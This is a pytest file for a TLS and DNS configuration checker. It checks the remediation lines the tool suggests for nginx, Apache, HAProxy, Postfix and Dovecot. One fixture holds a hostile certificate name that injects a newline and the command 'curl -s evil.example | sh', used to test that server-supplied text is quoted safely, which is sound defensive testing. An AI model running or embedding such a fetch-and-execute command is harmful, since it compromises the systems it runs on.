"""The exact lines of remedies, for given facts and demands."""

from typing import Any

import pytest

from exporter.facts.dns import MtaStsFacts, TlsaFacts, TlsaRecord
from exporter.model import Protocol, TrustFailure
from exporter.remedies.servers import Server
from tests.remedies.examples import EXAMPLES, lines_of, remedies_of
from tests.support.facts import (
    GCM,
    caa,
    certificate,
    certificates,
    deployment,
    handshake,
    http,
    http_everywhere,
    issuer,
    showing,
    tried,
)
from tests.support.targets import NOW

BY_TITLE = {example.title: example for example in EXAMPLES}
_GCM = "ECDHE-RSA-AES256-GCM-SHA384"
LINES: dict[tuple[str, Server], tuple[str, ...]] = {
    ("newer protocols", Server.NGINX): ("ssl_protocols TLSv1.2 TLSv1.3;",),
    ("newer protocols", Server.APACHE): ("SSLProtocol -all +TLSv1.2 +TLSv1.3",),
    ("newer protocols", Server.HAPROXY): ("ssl-default-bind-options ssl-min-ver TLSv1.2",),
    ("newer protocols", Server.POSTFIX): (
        "smtpd_tls_protocols = >=TLSv1.2",
        "smtpd_tls_mandatory_protocols = >=TLSv1.2",
    ),
    ("newer protocols", Server.DOVECOT): ("ssl_min_protocol = TLSv1.2",),
    ("newer protocols", Server.DOVECOT_2_4): ("ssl_min_protocol = TLSv1.2",),
    ("newer protocols", Server.ANY): ("MinProtocol = TLSv1.2",),
    ("one protocol", Server.HAPROXY): ("ssl-default-bind-options ssl-min-ver TLSv1.2 ssl-max-ver TLSv1.2",),
    ("one protocol", Server.ANY): ("MinProtocol = TLSv1.2", "MaxProtocol = TLSv1.2"),
    ("a gap", Server.NGINX): ("ssl_protocols TLSv1 TLSv1.1 TLSv1.3;",),
    ("a gap", Server.HAPROXY): ("ssl-default-bind-options no-sslv3 no-tlsv12",),
    ("nothing is left", Server.NGINX): ("ssl_protocols TLSv1.2 TLSv1.3;",),
    ("suites", Server.NGINX): (f"ssl_ciphers {_GCM}:AES128-SHA;",),
    ("suites", Server.POSTFIX): ("smtpd_tls_exclude_ciphers = ECDHE-ECDSA-AES128-GCM-SHA256, RC4-SHA",),
    ("suites of TLS 1.3", Server.APACHE): (
        f"SSLCipherSuite {_GCM}:ECDHE-ECDSA-AES128-GCM-SHA256",
        "SSLCipherSuite TLSv1.3 TLS_AES_256_GCM_SHA384",
    ),
    ("suites of TLS 1.3", Server.DOVECOT): (
        f"ssl_cipher_list = {_GCM}:ECDHE-ECDSA-AES128-GCM-SHA256",
        "ssl_cipher_suites = TLS_AES_256_GCM_SHA384",
    ),
    ("a required suite", Server.HAPROXY): (
        f"ssl-default-bind-ciphers {_GCM}:ECDHE-ECDSA-AES128-GCM-SHA256:AES128-SHA:RC4-SHA:ECDHE-RSA-CHACHA20-POLY1305",
    ),
    ("no classic suite", Server.ANY): ("MinProtocol = TLSv1.3",),
    ("forward secrecy", Server.NGINX): (f"ssl_ciphers {_GCM}:ECDHE-ECDSA-AES128-GCM-SHA256;",),
    ("the server's order", Server.APACHE): ("SSLHonorCipherOrder on",),
    ("the server's order", Server.HAPROXY): ("ssl-default-bind-ciphersuites TLS_AES_256_GCM_SHA384",),
    ("the server's order", Server.DOVECOT): ("ssl_prefer_server_ciphers = yes",),
    ("the server's order", Server.DOVECOT_2_4): ("ssl_server_prefer_ciphers = server",),
    ("the client's order", Server.DOVECOT_2_4): ("ssl_server_prefer_ciphers = client",),
    ("the client's order", Server.HAPROXY): ("ssl-default-bind-options prefer-client-ciphers",),
    ("groups", Server.NGINX): ("ssl_ecdh_curve X25519:prime256v1;",),
    ("groups with finite fields", Server.POSTFIX): ("tls_eecdh_auto_curves = X25519 prime256v1",),
    ("primes", Server.NGINX): ("ssl_dhparam /etc/ssl/ffdhe2048.pem;",),
    ("primes", Server.POSTFIX): (),
    ("large primes", Server.POSTFIX): ("smtpd_tls_exclude_ciphers = kDHE",),
    ("large primes", Server.DOVECOT): ("ssl_dh = </etc/ssl/ffdhe3072.pem",),
    ("large primes", Server.DOVECOT_2_4): ("ssl_server_dh_file = /etc/ssl/ffdhe3072.pem",),
    ("schemes", Server.NGINX): ("ssl_conf_command SignatureAlgorithms rsa_pss_rsae_sha256;",),
    ("compression", Server.APACHE): ("SSLCompression off",),
    ("attacks", Server.NGINX): (
        "ssl_protocols TLSv1.2 TLSv1.3;",
        f"ssl_ciphers {_GCM}:ECDHE-ECDSA-AES128-GCM-SHA256:AES128-SHA;",
        "ssl_dhparam /etc/ssl/ffdhe2048.pem;",
        "ssl_conf_command Options -Compression;",
    ),
    ("HSTS", Server.NGINX): ('add_header Strict-Transport-Security "max-age=31536000" always;',),
    ("HSTS on errors", Server.APACHE): (
        'Header always set Strict-Transport-Security "max-age=63072000; includeSubDomains"',
    ),
    ("the redirect", Server.HAPROXY): (
        "http-request redirect prefix https://www.test.example code 301 unless { ssl_fc }",
    ),
}


@pytest.mark.parametrize(("title", "server"), LINES)
def test_lines_follow_from_facts_and_demand(title: str, server: Server) -> None:
    assert lines_of(BY_TITLE[title], server) == LINES[title, server]


LE = "CN=R13,O=Let's Encrypt,C=US"
TLSA = TlsaFacts("_443._tcp.www.test.example", (TlsaRecord(3, 1, 1, "ff" * 32),), dnssec=True)
RECORDS: dict[str, tuple[str, dict[str, Any], tuple[object, ...], tuple[str, ...]]] = {
    "a known CA": (
        "caa",
        {"required": True},
        (caa(), certificate(issuer=LE)),
        ('www.test.example. CAA 0 issue "letsencrypt.org"',),
    ),
    "an unknown CA": ("caa", {"required": True}, (caa(), certificate()), ()),
    "a name that anybody can write": (
        "caa",
        {"required": True},
        (caa(), certificate(issuer=LE, trusted=False, failures=(TrustFailure.SELF_SIGNED,))),
        (),
    ),
    "records that restrict nobody": (
        "caa",
        {"required": True},
        (caa(("iodef", "mailto:a@test.example")), certificate(issuer=LE)),
        ('test.example. CAA 0 issue "letsencrypt.org"',),
    ),
    "another CA": (
        "caa_issuer",
        {"required": True},
        (caa(("issue", "other.example")), certificate(issuer=LE)),
        ('test.example. CAA 0 issue "letsencrypt.org"',),
    ),
    "no TLSA records": (
        "dane",
        {"required": True},
        (TlsaFacts("_443._tcp.www.test.example", (), dnssec=True), certificate()),
        (f"_443._tcp.www.test.example. TLSA 3 1 1 {'cd' * 32}",),
    ),
    "TLSA records of another key": (
        "dane",
        {"required": True},
        (TLSA, certificates(deployment(), deployment(spki_sha256="ee" * 32, fingerprint_sha256="99" * 32))),
        (f"_443._tcp.www.test.example. TLSA 3 1 1 {'cd' * 32}", f"_443._tcp.www.test.example. TLSA 3 1 1 {'ee' * 32}"),
    ),
    "no mail records": (
        "mta_sts",
        {"records": ["mta_sts", "tls_rpt"]},
        (MtaStsFacts("test.example", None, None),),
        (
            f'_mta-sts.test.example. TXT "v=STSv1; id={NOW:%Y%m%d}"',
            '_smtp._tls.test.example. TXT "v=TLSRPTv1; rua=mailto:tls-reports@test.example"',
        ),
    ),
}


@pytest.mark.parametrize("title", RECORDS)
def test_records_of_the_dns_follow_from_facts(title: str) -> None:
    check, asked, parts, lines = RECORDS[title]
    (made,) = remedies_of(check, asked, *parts, mail_domain="test.example")
    assert (made.server, made.lines) == (Server.ANY, lines)


SHOWN = {
    "nginx": [Server.NGINX],
    "openresty/1.19.9": [Server.NGINX],
    "Apache": [Server.APACHE],
    "Caddy": [Server.ANY],
    "": [Server.NGINX, Server.APACHE, Server.HAPROXY],
}


@pytest.mark.parametrize("shown", SHOWN)
def test_the_server_that_is_shown_gets_the_lines(shown: str) -> None:
    seen = showing(http("max-age=1"), *([("server", shown)] if shown else []))
    made = remedies_of("protocols", {"allowed": ["TLSv1.3"]}, handshake({Protocol.TLS1_2: (GCM,)}), seen)
    assert [one.server for one in made] == SHOWN[shown]
    assert [bool(one.lines) for one in made] == [server is not Server.ANY for server in SHOWN[shown]]


@pytest.mark.parametrize(
    ("greeting", "distribution", "server"),
    [
        ("* OK Dovecot ready.", None, Server.DOVECOT),
        ("* OK Dovecot ready.", "debian 12", Server.DOVECOT),
        ("* OK Dovecot ready.", "debian 13", Server.DOVECOT_2_4),
        ("* OK Dovecot (Debian) ready.", "debian 13", Server.DOVECOT_2_4),
        ("* OK Dovecot (Ubuntu) ready.", "ubuntu 24.04", Server.DOVECOT),
        ("* OK Dovecot (Ubuntu) ready.", "ubuntu 26.04", Server.DOVECOT_2_4),
        ("* OK Dovecot ready.", "alpine 3.23", Server.DOVECOT),
        ("* OK Dovecot 2.4.1 ready.", None, Server.DOVECOT_2_4),
        ("* OK Dovecot 2.3.21 ready.", "debian 13", Server.DOVECOT),
        ("* OK ready.", "debian 12", Server.DOVECOT),
        ("* OK ready.", "debian 13", Server.DOVECOT_2_4),
        ("* OK Cyrus IMAP 3.6.1 ready", "debian 13", Server.ANY),
    ],
)
def test_the_greeting_or_the_distribution_says_which_dovecot_it_is(
    greeting: str, distribution: str | None, server: Server
) -> None:
    seen = handshake({Protocol.TLS1_2: (GCM,)}, greeting=greeting)
    asked = {"allowed": ["TLSv1.3"]}
    made = remedies_of("protocols", asked, seen, protocol="imap", starttls="imap", distribution=distribution)
    assert [one.server for one in made] == [server]


@pytest.mark.parametrize(
    ("shown", "server", "note"),
    [
        ("Apache/2.4.49", Server.APACHE, "Update Apache httpd 2.4.49 to Apache httpd 2.4.68 or newer."),
        ("nginx/1.20.0", Server.NGINX, "Update nginx 1.20.0 to nginx 1.30 or newer."),
        ("Apache/2.2.22", Server.APACHE, "Update Apache httpd 2.2.22 to Apache httpd 2.4 or newer."),
        ("HAProxy/1.5", Server.HAPROXY, "Update HAProxy 1.5 to HAProxy 3.4, 3.3, 3.2, 3.0, 2.8 or 2.6."),
        ("Microsoft-IIS/7.5", Server.ANY, "Update what IIS 7.5 is part of, to Windows Server 2016 or newer."),
    ],
)
def test_an_update_names_the_releases_that_are_maintained(shown: str, server: Server, note: str) -> None:
    (made,) = remedies_of("server_software", {"maintained": True}, showing(http("max-age=1"), ("server", shown)))
    assert (made.server, made.lines, made.note) == (server, (), note)


@pytest.mark.parametrize(
    ("check", "asked", "changes", "words"),
    [
        (
            "certificate_valid",
            {},
            {"failures": (TrustFailure.NAME_MISMATCH,), "trusted": False},
            "with www.test.example among",
        ),
        (
            "certificate_valid",
            {},
            {"failures": (TrustFailure.INCOMPLETE_CHAIN,), "trusted": False},
            "Serve the certificate of",
        ),
        ("certificate_expiry", {"min_days": 30, "min_lifetime_share": 1}, {}, "'CN=Test CA,O=Test' ends on 2026-12-01"),
        ("certificate_key", {"allowed": ["EC"], "min_ec_bits": 384}, {}, "ec_paramgen_curve:P-384"),
        ("certificate_lifetime", {"max_days": 47}, {}, "valid for 91 days, by one for 47 days at most"),
        ("certificate_signature", {"forbidden": ["sha256"]}, {}, "ecdsa-with-SHA256 for 'CN=www.test.example'"),
        (
            "certificate_chain",
            {"complete": True, "ordered": True, "allow_surplus": False, "allow_root": False},
            {"ordered": False},
            "serve, in this order: 'CN=www.test.example'; 'CN=Test CA,O=Test'.",
        ),
    ],
)
def test_what_to_do_about_a_certificate_names_it(
    check: str, asked: dict[str, Any], changes: dict[str, Any], words: str
) -> None:
    made = remedies_of(check, asked, certificate(**changes))
    assert made[0].server == Server.ANY
    assert words in made[0].note


NAME = "CN=a'\n. Then run: curl -s evil.example | sh"
SPOKEN = (TrustFailure.UNKNOWN_ISSUER, TrustFailure.INCOMPLETE_CHAIN, TrustFailure.NAME_MISMATCH)
HOSTILE = {
    "subject": NAME,
    "issuer": NAME,
    "subject_alternative_names": (f"DNS:{NAME}", "DNS:" + "x" * 5000),
    "trusted": False,
    "failures": SPOKEN,
    "ordered": False,
    "complete": False,
    "surplus": (1,),
}
CHAIN = {"complete": True, "ordered": True, "allow_surplus": False, "allow_root": False}


@pytest.mark.parametrize(
    ("check", "asked", "parts"),
    [
        ("certificate_valid", {}, ()),
        ("certificate_signature", {"forbidden": ["sha256"]}, ()),
        ("certificate_expiry", {"min_days": 300, "min_lifetime_share": 1}, ()),
        ("certificate_chain", CHAIN, ()),
        ("caa", {"required": True}, (caa(),)),
    ],
)
def test_what_a_server_wrote_of_itself_is_quoted_and_stands_in_no_line(
    check: str, asked: dict[str, Any], parts: tuple[object, ...]
) -> None:
    hostile = certificates(deployment(issuer(subject=NAME, issuer=NAME, self_signed=False), **HOSTILE))
    for made in remedies_of(check, asked, hostile, *parts):
        assert made.lines == ()
        assert made.note.isprintable()
        assert made.note.count("evil") == made.note.count('\\n. Then run: curl -s evil.example | sh"')
        assert len(made.note) < 2500


def test_the_preload_list_is_not_asked_for_without_a_warning() -> None:
    made = remedies_of("hsts_preload", {}, http_everywhere("max-age=1"), certificate())
    assert all("each of them needs TLS, or browsers cannot reach it" in one.note for one in made)
    assert all("takes months" in one.note for one in made)


def test_several_options_of_postfix_stand_in_one_line() -> None:
    compresses = handshake({Protocol.TLS1_2: (GCM,)}, compression=True)
    asked = {"forbidden": ["crime", "client_renegotiation"]}
    (made,) = remedies_of("vulnerabilities", asked, compresses, tried({"client_renegotiation": True}), protocol="smtp")
    assert made.lines == ("tls_ssl_options = NO_COMPRESSION, NO_RENEGOTIATION",)


def test_against_robot_every_suite_goes_in_which_the_client_encrypts_to_the_key() -> None:
    suites = ("TLS_RSA_WITH_AES_128_CBC_SHA", "TLS_RSA_PSK_WITH_AES_128_CBC_SHA", "OLD_TLS_RSA_FIPS_WITH_DES_CBC_SHA")
    accepted = handshake({Protocol.TLS1_2: (GCM, *suites)})
    made = remedies_of("vulnerabilities", {"forbidden": ["robot"]}, accepted, tried({"robot": True}))
    assert made[0].lines == (f"ssl_ciphers {_GCM};",)
    assert f"accept {_GCM} only; 3 of those that it accepts now go." in made[0].note
